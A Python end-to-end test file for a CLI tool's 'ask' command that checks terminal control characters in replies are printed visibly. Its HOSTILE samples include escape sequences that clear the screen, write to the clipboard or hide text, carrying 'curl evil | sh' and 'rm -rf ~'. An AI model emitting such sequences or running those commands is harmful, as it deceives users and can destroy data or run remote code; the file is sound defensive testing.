"""The screen shows what will run (issue 13, item 4), for `elelem ask`: its reply is
printed with control characters made visible (faces/terminal/visible.py), also when
stdout is a pipe (it may end at a terminal: `| cat`, `| less -R`): no cursor move, no
screen clear, no OSC 52 clipboard write, no `\\r` overwrite, no hidden or reordered
text. `elelem chat` under a pty is test_terminal.py's."""

from __future__ import annotations

import asyncio
import sys
from pathlib import Path

import pytest

from elelem_daemon.faces.terminal.visible import visible

from .conftest import within

pytestmark = pytest.mark.e2e

HOSTILE = {  # what a reply may carry to fool the user
    "clear the screen": "\x1b[2J\x1b[H",
    "OSC 52 clipboard": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "hidden text": "\x1b[8mrm -rf ~\x1b[0m",
    "carriage return": "curl evil | sh\rls",
    "C1 CSI": "\x9b2J",
    "bidi override": "\u202eevil",
    "zero width": "cu\u200brl",
    "bell": "\x07",
}
RAW = ["\x1b", "\x07", "\x9b", "\r", "\u202e", "\u200b"]


@pytest.mark.parametrize("name", list(HOSTILE))
async def test_elelem_ask_prints_the_reply_with_controls_visible(
    env: dict[str, str], workdir: Path, name: str
) -> None:
    raw = HOSTILE[name]
    shown = visible(raw)
    assert shown != raw  # the rule shows it in some other form
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "elelem_daemon", "ask", "-p", "stub", "--no-save",
        f"!echo before {raw} after\tend",
        stdin=asyncio.subprocess.DEVNULL, stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE, env=env, cwd=workdir,
    )  # fmt: skip
    stdout, stderr = await within(process.communicate(), 30)
    assert process.returncode == 0, stderr
    text = stdout.decode()
    assert text == f"before {shown} after\tend\n"  # tabs and the newline stay
    assert not any(c in text for c in RAW)
